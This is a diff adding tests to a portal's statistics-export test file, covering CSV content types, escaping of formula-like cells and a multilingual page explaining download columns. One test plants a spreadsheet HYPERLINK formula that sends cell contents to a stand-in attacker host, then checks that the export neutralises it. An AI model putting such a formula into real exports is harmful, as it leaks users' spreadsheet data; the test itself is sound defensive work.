@@ -7,6 +7,7 @@ import io
 import json
 import re
 from datetime import timedelta
+from decimal import Decimal
 from typing import Any
 
 from sqlmodel import Session, col, select
@@ -15,6 +16,7 @@ from portal.directory.models import Department
 from portal.services import Services
 from portal.stats.period import today
 from portal.stats.report import FIGURE_COLUMNS, TICKET_COLUMNS
+from portal.stats.views import csv_cell
 from portal.tickets.models import Ticket
 from tests.pages import PageClient
 from tests.unit.factories import a_community, report_fields, resolve_ticket, submit_report
@@ -27,7 +29,7 @@ def period_query() -> str:
 
 def figures_csv(client: PageClient, query: str) -> list[dict[str, str]]:
     response = client.get(f"/stats/figures.csv?{query}")
-    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
+    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.content.startswith(b"\xef\xbb\xbf")  # spreadsheet programs need the mark for Chinese
     rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows and tuple(rows[0]) == FIGURE_COLUMNS
@@ -162,6 +164,51 @@ def test_a_backwards_or_absurd_period_gets_a_clear_message(client: PageClient) -
     json_refused = client.get("/stats/tickets.json?month=garbage")
     assert json_refused.status_code == 400 and "error" in json.loads(json_refused.text)
     assert client.get("/stats/figures.xlsx").status_code == 404
+    assert csv_refused.headers["content-type"] == "text/plain; charset=utf-8"
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(
+    client: PageClient, db: Session, services: Services
+) -> None:
+    department = db.exec(select(Department).order_by(col(Department.id))).first()
+    assert department is not None
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    kept = (department.name_zh_hans, department.name_zh_hant, department.name_en)
+    department.name_zh_hans = department.name_zh_hant = department.name_en = formula
+    db.add(department)
+    db.commit()
+    services.reference.invalidate()
+    try:
+        rows = figures_csv(client, f"{period_query()}&by=department")
+    finally:
+        department.name_zh_hans, department.name_zh_hant, department.name_en = kept
+        db.add(department)
+        db.commit()
+        services.reference.invalidate()
+    mine = next(r for r in rows if r["group_code"] == department.slug)
+    assert mine["group_name"] == "'" + formula  # a spreadsheet shows it as text and never runs it
+    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())
+
+
+def test_only_text_cells_are_neutralised_never_numbers() -> None:
+    for risky in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_cell(risky) == "'" + risky
+    assert [csv_cell(v) for v in (-3, Decimal("-12.5"), 0, None, "集美")] == ["-3", "-12.5", "0", "", "集美"]
+
+
+def test_every_download_column_is_explained_on_a_public_page_in_every_language(client: PageClient) -> None:
+    stats = client.get(f"/stats?{period_query()}").text
+    assert "README" not in stats and 'href="/stats/columns"' in stats
+    for language, heading, composite in (
+        ("en", "What the download columns mean", "satisfaction rate × 40) ÷ 100"),
+        ("zh-Hans", "下载数据各列的含义", "满意率 × 40）÷ 100"),
+        ("zh-Hant", "下載數據各列的含義", "滿意率 × 40）÷ 100"),
+    ):
+        page = client.get(f"/stats/columns?lang={language}")
+        assert page.status_code == 200 and f"<h1>{heading}</h1>" in page.text
+        assert composite in page.text  # the weights in force, as on /stats
+        for column in FIGURE_COLUMNS + TICKET_COLUMNS:
+            assert f"<code>{column}</code>" in page.text, column
 
 
 def test_the_home_page_leads_to_the_figures(client: PageClient) -> None:
